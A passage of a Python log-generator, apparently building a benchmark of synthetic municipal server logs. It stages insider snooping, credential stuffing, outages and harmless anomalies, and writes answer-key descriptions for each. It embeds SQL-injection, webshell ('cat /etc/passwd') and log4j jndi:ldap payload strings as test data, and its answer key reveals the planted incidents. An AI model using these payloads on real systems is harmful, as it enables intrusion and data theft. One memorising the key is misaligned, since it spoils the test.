        """Writes an annoyance down."""
        if ds:
            self.annoyances.append(
                {
                    "id": f"a{len(self.annoyances) + 1:02d}",
                    "first_day": self.day(min(ds)),
                    "last_day": self.day(max(ds)),
                    "site_ids": sites,
                    "actors": actors,
                    "what": what,
                    "why_not": why,
                }
            )

    # ---- incidents: easy -------------------------------------------------------------------------------------------------------------
    def i_leaver_haul(self) -> None:
        r, d, p = self.r, self.one_day(0.5, 0.9), self.take("税務課")
        p.force[d] = True
        p.left = (self.days[d] + timedelta(days=6)).isoformat()
        wards = ("kita", "minami", "shima", "yama", "eki", "chuo", "higashi", "nishi", "minato")
        t, a = self.views(
            d, 12.2 * H, p, [("zei", "GET", f"/zei/export/tainou_{w}.csv") for w in wards], (40, 90)
        )
        _, b = self.views(
            d,
            17.4 * H,
            p,
            [("zei", "GET", f"/zei/view.aspx?atena={s}") for s in r.sample(self.pop, 240)],
            (4, 14),
        )
        self.incident(
            "easy",
            "export",
            [d],
            ["zei"],
            [p.account("zei")],
            "A tax clerk six days before leaving exported the arrears lists of all nine wards at noon and opened 240 taxpayers after closing.",
            "Nine exports by somebody who never exported, 240 records in an hour after hours, left_on in the personnel list.",
            a + b,
        )

    def i_branch_silent(self) -> None:
        b, ds = (
            "shisho-kita",
            [d for d in self.workdays(max(15, self.n // 2)) if d + 1 < self.n and self.work(d + 1)]
            or [max(15, self.n - 5)],
        )
        d = self.r.choice(ds)
        self.silences.append((b, d * 86400 + 10.2 * H, d * 86400 + 86400 + 24 * H))
        self.incident(
            "easy",
            "silence",
            [d, d + 1],
            [b],
            [b],
            "A branch's log stops at 10:12 on an ordinary working day and nothing comes the day after.",
            "No line, not even the half-hourly monitoring, while the branch is open and the other branches go on.",
            0,
        )

    def i_stuffing(self) -> None:
        r, d = self.r, self.r.randrange(self.n // 2, self.n)
        ips, k0, ua = (
            [self.host(), self.host()],
            len(self.ev),
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.0.0 Safari/537.36",
        )
        t, got = 1.4 * H, []
        for m in r.sample(self.pop, 900):
            self.hit(d, t, "portal", r.choice(ips), f"r{m}", "POST", "/login", 401, ua)
            t += r.uniform(2, 7)
        for m in r.sample(self.members, 6):
            ip, sess, u = r.choice(ips), self.sid(), f"r{m}"
            got.append(u)
            tt = self.hit(
                d, r.uniform(1.6 * H, t), "portal", ip, u, "POST", "/login", 302, ua, sess
            )
            for path in ("/my/top", f"/my/tax/{m}", f"/my/certificates/{m}", f"/my/nursery/{m}"):
                tt = self.hit(d, tt + r.uniform(1, 3), "portal", ip, u, "GET", path, 200, ua, sess)
        self.incident(
            "easy",
            "login",
            [d],
            ["portal"],
            ips + got,
            "Two hosting addresses tried some 900 residents' accounts in the night, got into six and read their pages.",
            "Hundreds of failures over as many accounts from two addresses, then successes and reads from the same.",
            len(self.ev) - k0,
        )

    def i_idor(self) -> None:
        r, d = self.r, self.r.randrange(self.n // 2, self.n)
        m, s0, k0, sess = (
            r.choice(self.members),
            r.choice(self.pop[:20000]),
            len(self.ev),
            self.sid(),
        )
        ip, ua, u, t = self.member_ip[m], CHROME.format(143), f"r{m}", 22.1 * H
        self.hit(d, t, "portal", ip, u, "POST", "/login", 302, ua, sess)
        for k in range(170):
            t = self.hit(
                d,
                t + r.uniform(2, 6),
                "portal",
                ip,
                u,
                "GET",
                f"/my/certificates/{s0 + k}",
                200 if r.random() < 0.7 else 404,
                ua,
                sess,
            )
        self.incident(
            "easy",
            "outsider",
            [d],
            ["portal"],
            [u, ip],
            "A signed-in resident counted through other residents' certificate pages and got most of them.",
            "One resident's account reads about 120 foreign numbers in sequence, 200, where residents read only their own.",
            len(self.ev) - k0,
        )

    def i_sqli(self) -> None:
        r, d, ip, k0 = self.r, self.r.randrange(self.n // 2, self.n), self.host(), len(self.ev)
        ua, t = "sqlmap/1.8.4#stable (https://sqlmap.org)", r.uniform(2, 20) * H
        for k in range(130):
            bad = r.choice(
                (
                    "1%27%20AND%201=1--%20",
                    "1%20AND%20SLEEP(5)",
                    "-1%20UNION%20SELECT%20NULL,NULL--",
                    "1%27%29%20OR%20%28%27a%27=%27a",
                )
            )
            t = self.hit(
                d,
                t + r.uniform(0.3, 2),
                "portal",
                ip,
                None,
                "GET",
                f"/reserve?facility={bad}",
                r.choice((500, 500, 200)),
                ua,
            )
        for k in range(25):
            t = self.hit(
                d,
                t + r.uniform(1, 4),
                "portal",
                ip,
                None,
                "GET",
                f"/reserve?facility=-1%20UNION%20SELECT%20name,tel,addr%20FROM%20yoyaku%20LIMIT%20200%20OFFSET%20{k * 200}--",
                200,
                ua,
                size=r.randrange(60000, 90000),
            )
        self.incident(
            "easy",
            "web",
            [d],
            ["portal"],
            [ip],
            "SQL injection into the reservation page, first errors, then 25 large answers that page through the table of bookings.",
            "UNION SELECT name,tel,addr with growing OFFSET answered 200 with 60 to 90 KB where the page has some 6 KB.",
            len(self.ev) - k0,
        )

    def i_night_welfare(self) -> None:
        r, d, p, ip, sess = self.r, self.one_day(0.5), self.take("福祉課"), "10.99.0.71", self.sid()
        t, mine = self.sign_in(p, d, 1.6 * H, "fukushi", sess, 0, ip), set(p.cases)
        _, a = self.views(
            d,
            t,
            p,
            [
                ("fukushi", "GET", f"/welfare/case/{s}{x}")
                for s in r.sample([x for x in self.pop if x not in mine], 75)
                for x in ("", "/doc")
            ],
            (6, 30),
            ip,
            None,
            sess,
        )
        self.incident(
            "easy",
            "hours",
            [d],
            ["fukushi"],
            [p.account("fukushi")],
            "A case worker's account read 75 strangers' welfare cases with papers between half past one and three at night by VPN.",
            "Nobody of the department is ever there at that hour; none of the cases is his.",
            a + 1,
        )

    def i_portal_errors(self) -> None:
        d, h = self.one_day(0.45), self.r.uniform(9.5, 11)
        x = self.incident(
            "easy",
            "errors",
            [d],
            ["portal"],
            ["portal"],
            "For three hours of a working day most log-ins and personal pages of the portal answered 500, unannounced.",
            "Share of 500 on /login and /my goes from nil to four in five.",
            0,
        )
        for pre in ("/my", "/login", "/console"):
            self.breaks.append(
                ("portal", d * 86400 + h * H, d * 86400 + (h + 3) * H, pre, 0.8, 500, x)
            )

    def i_webshell(self) -> None:
        r, d, ip, k0 = self.r, self.r.randrange(self.n // 2, self.n), self.host(), len(self.ev)
        t, ua = r.uniform(0, 22) * H, CHROME.format(120)
        for path, m, st in (
            ("/cms/", "GET", 200),
            ("/cms/upload.php", "GET", 200),
            ("/cms/upload.php", "POST", 200),
        ):
            t = self.hit(d, t + r.uniform(3, 30), "www", ip, None, m, path, st, ua)
        for c in (
            "id",
            "uname%20-a",
            "cat%20/etc/passwd",
            "ls%20-la%20/var/www",
            "ps%20aux",
            "cat%20/var/www/cms/config.php",
        ) * 6:
            t = self.hit(
                d,
                t + r.uniform(2, 40),
                "www",
                ip,
                None,
                "GET",
                f"/uploads/2026/img_{d:02d}.php?c={c}",
                200,
                ua,
            )
        self.incident(
            "easy",
            "web",
            [d],
            ["www"],
            [ip],
            "A PHP file was uploaded through the CMS and gave orders to the web server.",
            "POST to upload.php, then a .php in uploads called 36 times with shell commands, all 200.",
            len(self.ev) - k0,
        )

    def i_lone_probe(self) -> None:
        r, d, ip, k0 = self.r, self.r.randrange(16, self.n), self.host(), len(self.ev)
        t = r.uniform(0, 23) * H
        for k in range(r.randrange(8, 16)):
            t = self.hit(
                d,
                t + r.uniform(0.5, 4),
                "www",
                ip,
                None,
                "GET",
                r.choice(("/?x=", "/search?q=", "/login?u="))
                + "$%7Bjndi:ldap://"
                + ip
                + ":1389/a%7D",
                r.choice((404, 403, 403)),
                "${jndi:ldap://" + ip + ":1389/a}",
            )
        self.incident(
            "easy",
            "web",
            [d],
            ["www"],
            [ip],
            "One address tried log4j strings on the public site and got 403 and 404 only.",
            "The jndi strings in query and agent; every answer refused.",
            len(self.ev) - k0,
            False,
        )

    def i_console_force(self) -> None:
        r, d, p, ip, k0 = (
            self.r,
            self.one_day(0.45),
            self.take("コールセンター"),
            self.host(),
            len(self.ev),
        )
        t = r.uniform(18.5, 22) * H
        for _ in range(r.randrange(200, 280)):
            t = self.hit(
                d,
                t + r.uniform(1, 5),
                "portal",
                ip,
                p.uid,
                "POST",
                "/auth/login",
                401,
                "python-requests/2.32.3",
            )
        self.incident(
            "easy",
            "login",
            [d],
            ["portal"],
            [ip, p.uid],
            "An outside address guessed at one call-centre account some 240 times on the staff console, without success.",
            "Rows of 401 for one account every few seconds from an unknown address.",
            len(self.ev) - k0,
        )

    def i_sequence(self) -> None:
        r, p = self.r, self.take("税務課")
        ds, s, k = self.spread(7 if self.n > 40 else 5, 12, p), r.randrange(1002000, 1015000), 0
        for d in ds:
            k += self.views(
                d,
                17.5 * H,
                p,
                [("juki", "GET", f"/juki/person/{x}") for x in range(s, s + 110)],
                (5, 16),
            )[1]
            s += 110
        self.incident(
            "easy",
            "amount",
            ds,
            ["juki"],
            [p.account("juki")],
            "A tax clerk read the residents' register number by number after closing, 110 a day, on several days.",
            "Consecutive numbers without a search, continued next day where it stopped; tax clerks look up two or three a day there.",
            k,
        )

    # ---- incidents: medium -------------------------------------------------------------------------------------------------------------
    def i_session(self) -> None:
        r, d, m = self.r, self.r.randrange(self.n // 2, self.n), self.r.choice(self.members)
        k0, sess, ip, ip2, u, t = (
            len(self.ev),
            self.sid(),
            self.member_ip[m],
            self.host(),
            f"r{m}",
            r.uniform(19, 21) * H,
        )
        self.hit(d, t, "portal", ip, u, "POST", "/login", 302, IPHONE.format(18, 3), sess)
        for k in range(7):
            self.hit(
                d,
                t + 20 + k * 55,
                "portal",
                ip,
                u,
                "GET",
                r.choice((f"/my/tax/{m}", "/my/top", f"/my/notice/{m}")),
                200,
                IPHONE.format(18, 3),
                sess,
            )
        k1 = len(self.ev)
        for k, path in enumerate(
            (
                "/my/top",
                f"/my/tax/{m}",
                f"/my/certificates/{m}",
                f"/my/nursery/{m}",
                "/my/account",
                f"/my/notice/{m}",
            )
        ):
            self.hit(
                d,
                t + 130 + k * 31,
                "portal",
                ip2,
                u,
                "GET",
                path,
                200,
                "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
                sess,
            )
        self.hit(
            d,
            t + 330,
            "portal",
            ip2,
            u,
            "POST",
            "/my/account/mail",
            302,
            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
            sess,
        )
        self.incident(
            "medium",
            "session",
            [d],
            ["portal"],
            [u, ip2],
            "A resident's session was used at the same time from a hosting address with another browser, and the mail address changed.",
            "One cookie, two addresses and two machines in alternation within five minutes; the second never signed in.",
            len(self.ev) - k1,
        )

    def i_place(self) -> None:
        r, d, p, ip, k0 = (
            self.r,
            self.one_day(0.45),
            self.take("コールセンター"),
            self.host(),
            len(self.ev),
        )
        p.force[d] = True
        ua, sess, t = CHROME.format(131), self.sid(), r.uniform(14.2, 16.3) * H
        t = self.hit(d, t, "portal", ip, p.uid, "POST", "/auth/login", 302, ua, sess)
        for s in r.sample(self.pop, 28):
            t = self.hit(
                d,
                t + r.uniform(8, 40),
                "portal",
                ip,
                p.uid,
                "GET",
                f"/console/inquiry/{s}",
                200,
                ua,
                sess,
            )
        self.incident(
            "medium",
            "place",
            [d],
            ["portal"],
            [p.uid, ip],
            "A call-centre account signed in from an unknown address and read 28 inquiries while its owner was working at the centre.",
            "The centre has one address; here a second one, at the same time, no search, no note.",
            len(self.ev) - k0,
        )

    def i_other_branch(self) -> None:
        r, p, d = self.r, self.take("支所", "shisho-minami"), self.one_day(0.45, 0.9)
        ds, k = self.workdays(d, d + 9)[:2], 0
        for x in ds:
            p.force[x] = True
            t = self.sign_in(p, x, r.uniform(15.2, 16.3) * H, "shisho-yama", None)
            k += (
                1
                + self.views(
                    x,
                    t,
                    p,
                    [
                        ("shisho-yama", "GET", f"/cert/person/{s}")
                        for s in r.sample(self.area["yama"], 19)
                    ],
                    (15, 70),
                )[1]
            )
        self.incident(
            "medium",
            "other_site",
            ds,
            ["shisho-yama"],
            [p.uid],
            "A clerk of the south branch signed in at the Yamate branch's server from her own desk and read 38 persons there, issuing nothing.",
            "She has never used that server, sits at 10.30.2.x, and no certificate follows.",
            k,
        )

    def i_desk_guess(self) -> None:
        r, d = self.r, self.one_day(0.45)
        ps, ip, k0, t = (
            r.sample(self.of("福祉課"), 9),
            f"10.20.23.{r.randrange(20, 28)}",
            len(self.ev),
            r.uniform(17.9, 18.6) * H,
        )
        for p in ps:
            for _ in range(r.choice((2, 3))):
                t = self.hit(
                    d,
                    t + r.uniform(8, 50),
                    "fukushi",
                    ip,
                    p.uid,
                    "POST",
                    "/auth/login",
                    401,
                    EDGE.format(143),
                )
        v = ps[-2]
        self.busy.add(v.uid)
        sess = self.sid()
        t = self.hit(
            d, t + 40, "fukushi", ip, v.uid, "POST", "/auth/login", 302, EDGE.format(143), sess
        )
        for s in r.sample(v.cases, 8):
            t = self.hit(
                d,
                t + r.uniform(20, 70),
                "fukushi",
                ip,
                v.uid,
                "GET",
                f"/welfare/case/{s}/doc",
                200,
                EDGE.format(143),
                sess,
            )
        self.incident(
            "medium",
            "login",
            [d],
            ["fukushi"],
            [ip, v.uid],
            "Somebody at a desk of the nursery section tried nine case workers' accounts two or three times each, got into one and read eight cases' papers.",
            "One inner address, nine accounts that never used it, failures then a success in the evening.",
            len(self.ev) - k0,
        )

    def i_nursery_collect(self) -> None:
        r, p = self.r, self.take("保育課")
        ds, k = self.spread(16 if self.n > 40 else 9, 26 if self.n > 40 else 14, p), 0
        p.rate = min(p.rate, 16)
        for d in ds:
            for s in r.sample(self.children, r.randrange(9, 16)):
                k += self.views(
                    d, r.uniform(9, 17) * H, p, [("fukushi", "GET", f"/nursery/child/{s}")], (5, 9)
                )[1]
        self.incident(
            "medium",
            "weeks",
            ds,
            ["fukushi"],
            [p.uid],
            "A nursery clerk opened about a dozen more children a day than before, for weeks, and scored none of them.",
            "Twice her own past and her peers' number; share of views followed by a score falls from three quarters to under half.",
            k,
        )

    def i_watched(self) -> None:
        r, p, s, d = self.r, self.take("税務課"), self.r.choice(self.dv), self.one_day(0.45, 0.9)
        ds, k = self.workdays(d, d + 9)[:2], 0
        for x in ds:
            p.force[x] = True
            t, a = self.views(
                x,
                r.uniform(12.1, 12.7) * H,
                p,
                [
                    ("juki", "POST", "/juki/search"),
                    ("juki", "GET", f"/juki/person/{s}"),
                    ("juki", "GET", f"/juki/household/{s}"),
                ],
                (20, 60),
            )
            k += a + self.views(x, t + 900, p, [("juki", "GET", f"/juki/person/{s}")], (5, 9))[1]
        k += self.views(ds[-1], 16.6 * H, p, [("juki", "GET", "/juki/support/list")], (5, 9))[1]
        self.incident(
            "medium",
            "other",
            ds,
            ["juki"],
            [p.account("juki")],
            "A tax clerk looked up a person under protection (支援措置) at noon on two days, with household, and then the list of protected persons.",
            "Watched subject, four views by one who looks at no household otherwise, nothing in the tax system about that number.",
            k,
        )

    def i_after_leaving(self) -> None:
        r, d, p, ip, k0 = (
            self.r,
            self.one_day(0.55),
            self.take("市民課"),
            f"10.99.0.{self.r.randrange(10, 60)}",
            len(self.ev),
        )
        p.left = (self.days[d] - timedelta(days=r.randrange(8, 13))).isoformat()
        t = self.sign_in(p, d, r.uniform(15, 18) * H, "juki", None, 1, ip)
        for s in r.sample(self.pop, 9):
            t, _ = self.views(
                d,
                t + 30,
                p,
                [("juki", "POST", "/juki/search"), ("juki", "GET", f"/juki/person/{s}")],
                (10, 60),
                ip,
            )
        self.incident(
            "medium",
            "other",
            [d],
            ["juki"],
            [p.account("juki")],
            "The account of a clerk who left more than a week ago signed in by VPN and read nine persons.",
            "left_on in the personnel list lies before the day.",
            len(self.ev) - k0,
        )

    def i_weekly_export(self) -> None:
        r, p, k = self.r, self.take("福祉課"), 0
        ds = self.spread(6 if self.n > 40 else 4, 28 if self.n > 40 else 16, p)
        for d in ds:
            self.hit(
                d,
                r.uniform(17.0, 17.7) * H,
                "fukushi",
                p.ip,
                p.uid,
                "GET",
                f"/welfare/export/shikyu_{self.days[d]:%m%d}.csv",
                200,
                p.ua,
                size=int(r.lognormvariate(12.3, 0.3)),
            )
        self.incident(
            "medium",
            "export",
            ds,
            ["fukushi"],
            [p.uid],
            "A case worker who is not in charge of payments took the payment list again and again, at closing time.",
            "Only the two in charge have ever exported; now a third, every few days.",
            len(ds),
        )

    def i_zei_gap(self) -> None:
        d, h = self.one_day(0.45), self.r.uniform(9.0, 9.5)
        self.silences.append(("zei", d * 86400 + h * H, d * 86400 + (h + 2.6) * H))
        self.incident(
            "medium",
            "silence",
            [d],
            ["zei"],
            ["zei"],
            "The tax server's log has a hole of two and a half hours in a working morning, monitoring included.",
            "No line, not even the quarter-hourly check, while other servers write on.",
            0,
        )

    def i_mixup(self) -> None:
        r, d, k0, who = self.r, self.one_day(0.45), len(self.ev), []
        for m in r.sample(self.members, 11):
            other, t, sess, u = (
                r.choice([x for x in self.pop if x != m]),
                r.uniform(14.2, 22) * H,
                self.sid(),
                f"r{m}",
            )
            who.append(u)
            self.hit(
                d, t, "portal", self.member_ip[m], u, "POST", "/login", 302, self.member_ua[m], sess
            )
            self.hit(
                d,
                t + 2,
                "portal",
                self.member_ip[m],
                u,
                "GET",
                "/my/top",
                200,
                self.member_ua[m],
                sess,
            )
            self.hit(
                d,
                t + 30,
                "portal",
                self.member_ip[m],
                u,
                "GET",
                f"/my/certificates/{other}",
                200,
                self.member_ua[m],
                sess,
            )
        self.incident(
            "medium",
            "other",
            [d],
            ["portal"],
            ["portal"] + who,
            "From the afternoon's deploy on, eleven residents were handed another resident's certificate by the portal itself.",
            "Number in the path is not the number of the account, once each, for many residents on one day, 200.",
            len(who),
        )

    def i_exposed(self) -> None:
        r, d, ips = (
            self.r,
            self.one_day(0.45),
            [self.home_ip() for _ in range(4)] + ["66.249.79.14"],
        )
        path = f"/uploads/tmp/hoikuen_nyusho_meibo_{self.days[d]:%Y%m%d}.csv"
        for k, ip in enumerate(ips):
            self.hit(
                d,
                (10 + 2.4 * k + r.random()) * H,
                "www",
                ip,
                None,
                "GET",
                path,
                200,
                BOTS[0][0] if k == 4 else self.visitor_ua(),
                size=412233,
            )
        self.incident(
            "medium",
            "outsider",
            [d],
            ["www"],
            ips + ["www"],
            "The list of children admitted to nurseries lay on the public web server and was fetched by four visitors and a crawler.",
            "A CSV of 400 KB named as a roll (meibo) under /uploads/tmp answered 200 to outsiders; no such file was ever served.",
            len(ips),
        )

    def i_dormant(self) -> None:
        r, d = self.r, self.r.choice(range(max(33, int(self.n * 0.6)), self.n))
        for _ in range(6):
            self.hit(
                1,
                r.uniform(10, 16) * H,
                "juki",
                "10.98.0.9",
                "CITY\\v-kitano",
                "GET",
                "/admin/log",
                200,
                CHROME.format(141),
            )
        k0, t = len(self.ev), r.uniform(13, 18) * H
        t = self.hit(
            d,
            t,
            "juki",
            "10.98.0.9",
            "CITY\\v-kitano",
            "POST",
            "/auth/login",
            302,
            CHROME.format(141),
        )
        for s in r.sample(self.pop, 42):
            t = self.hit(
                d,
                t + r.uniform(8, 40),
                "juki",
                "10.98.0.9",
                "CITY\\v-kitano",
                "GET",
                f"/juki/person/{s}",
                200,
                CHROME.format(141),
            )
        self.incident(
            "medium",
            "other",
            [d],
            ["juki"],
            ["CITY\\v-kitano"],
            "A vendor's account that had not been used for a month read 42 residents; vendors use the administration pages only.",
            "Unseen since the second day of the log; records instead of /admin.",
            len(self.ev) - k0,
        )

    # ---- incidents: hard -----------------------------------------------------------------------------------------------------------------
    def i_slow_guess(self) -> None:
        r, ips, k0 = self.r, sorted({self.host() for _ in range(14)}), len(self.ev)
        start = r.randrange(15, max(16, self.n - 12))
        ds, targets, ua = (
            list(range(start, min(self.n, start + (16 if self.n > 40 else 9)))),
            r.sample(self.members, 70),
            "Mozilla/5.0 (Linux; Android 12; SM-A225F) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Mobile Safari/537.36",
        )
        won, got = r.sample(targets, 2), []
        for d in ds:
            for ip in r.sample(ips, min(len(ips), 12)):
                for _ in range(r.choice((1, 1, 2, 3))):
                    self.hit(
                        d,
                        self.clock(),
                        "portal",
                        ip,
                        f"r{r.choice(targets)}",
                        "POST",
                        "/login",
                        401,
                        ua,
                    )
        for m, d in zip(won, ds[-2:]):
            ip, sess, u, t = r.choice(ips), self.sid(), f"r{m}", self.clock()
            got += [u, ip]
            for meth, path, st in (
                ("POST", "/login", 302),
                ("GET", "/my/top", 200),
                ("GET", f"/my/tax/{m}", 200),
                ("GET", f"/my/certificates/{m}", 200),
            ):
                t = self.hit(d, t + r.uniform(2, 9), "portal", ip, u, meth, path, st, ua, sess)
        self.incident(
            "hard",
            "login",
            ds,
            ["portal"],
            ["portal"] + sorted(set(got + ips)),
            "Fourteen hosting addresses guessed at seventy residents' accounts, one to three tries a day each, over more than a week, and got into two.",
            "All with one rare browser, none ever fetched a page or signed in before; their failures come without GET /login.",
            len(self.ev) - k0,
        )

    def i_ex_spouse(self) -> None:
        r, p, s = self.r, self.take("市民課"), self.ex
        ds, k = self.spread(11 if self.n > 40 else 7, 30 if self.n > 40 else 18, p), 0
        for d in ds:
            k += self.views(
                d,
                r.choice((r.uniform(12, 13), r.uniform(8.7, 9), r.uniform(16.8, 17.1))) * H,
                p,
                [
                    ("juki", "POST", "/juki/search"),
                    ("juki", "GET", f"/juki/person/{s}"),
                    ("juki", "GET", f"/juki/household/{s}"),
                ][: r.choice((2, 3, 3))],
                (10, 40),
            )[1]
        self.incident(
            "hard",
            "weeks",
            ds,
            ["juki"],
            [p.account("juki")],
            "A counter clerk looked at one resident again and again over weeks, mostly with the household, at noon or before opening, and nothing was ever issued.",
            "The same number on many days by one clerk only and by nobody else, no certificate or move behind any of them.",
            k,
        )

    def i_colleagues(self) -> None:
        r, p, k = self.r, self.take("福祉課"), 0
        ds = self.spread(10 if self.n > 40 else 7, 28 if self.n > 40 else 16, p)
        for d, s in zip(ds, r.sample(self.colleagues, len(ds))):
            k += self.views(
                d, r.uniform(12.9, 17) * H, p, [("zei", "GET", f"/zei/view.aspx?atena={s}")], (5, 9)
            )[1]
        self.incident(
            "hard",
            "weeks",
            ds,
            ["zei"],
            [p.account("zei")],
            "A case worker looked at the tax records of colleagues, one a day, on a number of days.",
            "All of these numbers are staff in the watch list; his other tax look-ups follow a welfare case of the same number, these do not.",
            k,
        )

    def i_borrowed(self) -> None:
        r, d, a, b = self.r, self.one_day(0.45), self.take("税務課"), self.take("税務課")
        a.force[d], b.force[d] = False, True
        k0, t = len(self.ev), self.sign_in(a, d, r.uniform(12.1, 12.3) * H, "juki", None, 0, b.ip)
        for s in r.sample(self.pop, 10):
            t, _ = self.views(
                d,
                t,
                a,
                [
                    ("juki", "POST", "/juki/search"),
                    ("juki", "GET", f"/juki/person/{s}"),
                    ("juki", "GET", f"/juki/household/{s}"),
                ],
                (12, 50),
                b.ip,
            )
        self.incident(
            "hard",
            "session",
            [d],
            ["juki"],
            [a.account("juki"), b.account("juki")],
            "On a day of leave a tax clerk's account was used at noon from a colleague's own desk to read ten households in the register.",
            "The account is silent everywhere else that day; the address has long been the other clerk's alone.",
            len(self.ev) - k0,
        )

    def i_receipts(self) -> None:
        r, net = self.r, self.r.choice(("146.70.33.", "89.117.54.", "38.60.212."))
        start = r.randrange(15, max(16, self.n - 12))
        ds, k0, no, uas = (
            list(range(start, min(self.n, start + (14 if self.n > 40 else 8)))),
            len(self.ev),
            880100,
            [self.visitor_ua() for _ in range(18)],
        )
        for d in ds:
            t = r.uniform(0.5, 2) * H
            while t < 23 * H and no < 880800:
                k = r.randrange(18)
                self.hit(
                    d,
                    t,
                    "portal",
                    f"{net}{20 + k * 7}",
                    None,
                    "GET",
                    f"/nursery/status?receipt={no}",
                    200,
                    uas[k],
                )
                no += 1
                t += r.expovariate(1 / 1500) + 120
        self.incident(
            "hard",
            "outsider",
            ds,
            ["portal"],
            ["portal"] + sorted(f"{net}{20 + k * 7}" for k in range(18)),
            "Eighteen addresses of one network read the nursery applications' status in ascending order of receipt numbers, a few an hour, day and night.",
            "Numbers in sequence across addresses of one /24 at every hour, none of which ever loads another page; parents ask for one number.",
            len(self.ev) - k0,
        )

    def i_call_take(self) -> None:
        r, p, k = self.r, self.take("コールセンター"), 0
        ds = self.spread(18 if self.n > 40 else 11, 30 if self.n > 40 else 17, p)
        for d in ds:
            for s in r.sample(self.pop, r.randrange(4, 9)):
                k += self.views(
                    d,
                    r.uniform(9, 17) * H,
                    p,
                    [
                        ("portal", "POST", "/console/search"),
                        ("portal", "GET", f"/console/inquiry/{s}"),
                    ],
                    (5, 20),
                )[1]
        self.incident(
            "hard",
            "weeks",
            ds,
            ["portal"],
            [p.uid],
            "A call-centre agent opened four to eight persons a day more than the calls asked, for weeks.",
            "Views without a note rise from one in twenty-five to one in four, for this agent alone; totals stay within the usual.",
            k,
        )

    def i_second_export(self) -> None:
        r, k, ds = self.r, 0, self.spread(5 if self.n > 40 else 3, 20 if self.n > 40 else 12)
        for d in ds:
            for name in ("koza", "tainou")[: r.choice((1, 2))]:
                self.hit(
                    d,
                    r.uniform(2.8, 3.1) * H,
                    "zei",
                    "10.98.0.4",
                    "CITY\\svc-zei",
                    "GET",
                    f"/zei/export/{name}_{self.days[d]:%Y%m%d}.csv",
                    200,
                    "MisakiBatch/3.1",
                    size=int(r.lognormvariate(14, 0.2)),
                    ms=9000,
                )
                k += 1
        self.incident(
            "hard",
            "export",
            ds,
            ["zei"],
            ["CITY\\svc-zei", "10.98.0.4"],
            "The tax system's batch account took its files a second time, half an hour after the nightly run, from the vendor's maintenance address.",
            "The account has only ever come from 10.20.9.11; 10.98.0.4 is where the vendor's v-hosoda signs in.",
            k,
        )

    def i_partial_errors(self) -> None:
        d = self.one_day(0.45, 0.9)
        ds = self.workdays(d, d + 9)[:3]
        x = self.incident(
            "hard",
            "errors",
            ds,
            ["fukushi"],
            ["fukushi"],
            "Since a deploy every fourth paper of a welfare case answers 500, for days, all else works.",
            "500 only on /welfare/case/…/doc, from nil to a quarter; in the site's total it is a few lines.",
            0,
        )
        self.breaks.append(
            (
                "fukushi",
                ds[0] * 86400 + 8 * H,
                ds[-1] * 86400 + 24 * H,
                "/welfare/case/*doc",
                0.27,
                500,
                x,
            )
        )

    def i_part_timer(self) -> None:
        r, k = self.r, 0
        p = r.choice(
            [q for q in self.people if q.dept == "保育課" and q.part and q.uid not in self.busy]
        )
        self.busy.add(p.uid)
        ds = self.spread(6 if self.n > 40 else 4, 20 if self.n > 40 else 10)
        for d in ds:
            p.force[d], sess = True, self.sid()
            t = self.sign_in(p, d, r.uniform(17.4, 18.0) * H, "fukushi", sess)
            k += (
                1
                + self.views(
                    d,
                    t,
                    p,
                    [
                        ("fukushi", "GET", f"/nursery/child/{s}")
                        for s in r.sample(self.children, r.randrange(8, 13))
                    ],
                    (20, 80),
                    None,
                    None,
                    sess,
                )[1]
            )
        self.incident(
            "hard",
            "hours",
            ds,
            ["fukushi"],
            [p.uid],
            "The account of a nursery part-timer who leaves at three at the latest was used at her desk between half past five and half past six, to read ten children each time.",
            "Within business hours, but never hers; no score follows.",
            k,
        )

    def i_false_certs(self) -> None:
        r, p, k = self.r, self.take("支所", "shisho-eki"), 0
        ds = self.spread(12 if self.n > 40 else 7, 28 if self.n > 40 else 18, p)
        for d in ds:
            for s in r.sample(self.area["main"], r.choice((1, 2, 2, 3))):
                k += self.views(
                    d,
                    r.uniform(16.9, 17.15) * H,
                    p,
                    [
                        ("shisho-eki", "GET", f"/cert/seal/{s}"),
                        ("shisho-eki", "POST", f"/cert/issue/{s}"),
                    ],
                    (15, 40),
                )[1]
        self.incident(
            "hard",
            "weeks",
            ds,
            ["shisho-eki"],
            [p.uid],
            "A clerk at the station branch issued seal certificates for people of the main ward at the end of the afternoon, for weeks, without search or view of the person.",
            "Every other issue follows search and person; these begin with the seal, lie before closing, and all are outside the branch's ward.",
            k,
        )

    def i_half_days(self) -> None:
        d = self.one_day(0.45, 0.85)
        ds = self.workdays(d, d + 9)[:5]
        for x in ds:
            self.silences.append(("shisho-shima", x * 86400 + 14.4 * H, x * 86400 + 24 * H))
        self.incident(
            "hard",
            "silence",
            ds,
            ["shisho-shima"],
            ["shisho-shima"],
            "The island branch's log ends at about half past two, five working days running.",
            "The branch is thin and has gaps of its own, but its afternoons always had lines until 17:15 and monitoring until midnight.",
            0,
        )

    # ---- annoyances --------------------------------------------------------------------------------------------------------------------
    def annoyances_all(self) -> None:
        """Everything that looks odd and is not."""
        r, n = self.r, self.n
        every, edge = (
            list(range(n)),
            [d for d in self.workdays(0) if self.days[d].day >= 27 or self.days[d].day <= 1],
        )
        for d in edge:
            self.boost["税務課", d] = r.uniform(1.5, 2.2)
            self.late.add(("税務課", d))
        self.annoy(
            edge,
            ["zei"],
            ["zei"],
            "Month-end closing: the tax office works until eight, twice as much, and the batch writes two more files.",
            "It is so at every month's end.",
        )
        self.annoy(
            every,
            ["zei"],
            ["CITY\\svc-zei"],
            "The batch account exports at half past two every night.",
            "It is the system's own run, always from 10.20.9.11.",
        )
        self.annoy(
            every,
            ["juki"],
            ["CITY\\n-shukuchoku"],
            "The night desk reads a few persons at night and on holidays.",
            "Deaths and marriages are notified at any hour; a shared account by the guard company's contract.",
        )
        d, p = r.choice(self.workdays(14, n - 6)), self.take("市民課")
        p.joined, p.rate, ds = self.day(d), 30, self.workdays(d, d + 12)
        for x in ds:
            p.force[x] = True
            for s in r.sample(self.pop, r.randrange(15, 40)):
                self.views(
                    x,
                    r.uniform(9, 17) * H,
                    p,
                    [("juki", "GET", f"/juki/person/{s}"), ("juki", "GET", f"/juki/household/{s}")],
                    (10, 60),
                )
        self.annoy(
            ds,
            ["juki"],
